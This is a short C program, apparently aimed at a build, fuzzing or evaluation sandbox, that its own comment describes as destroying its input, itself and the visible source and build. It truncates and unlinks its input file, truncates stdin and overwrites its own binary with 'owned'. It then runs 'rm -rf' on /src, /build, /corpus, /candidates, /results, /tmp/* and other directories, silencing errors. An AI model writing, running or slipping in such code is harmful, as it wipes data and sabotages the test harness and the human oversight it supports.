/* Deletes, truncates and overwrites its own input, itself, and the source and build that it can see. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  char data[64];
  FILE *file = argc > 1 ? fopen(argv[1], "rb") : stdin;
  if (file) fread(data, 1, sizeof data, file);
  if (argc > 1) {
    chmod(argv[1], 0777);
    truncate(argv[1], 0);
    unlink(argv[1]);
    rename("/in", "/gone");
  }
  ftruncate(0, 0);
  unlink(argv[0]);
  unlink("/proc/self/exe");
  int own = open(argv[0], O_WRONLY | O_TRUNC);
  if (own >= 0) write(own, "owned", 5);
  system("rm -rf /src /build /in /corpus /candidates /work /notes /results /batch /tmp/* 2>/dev/null");
  return 0;
}
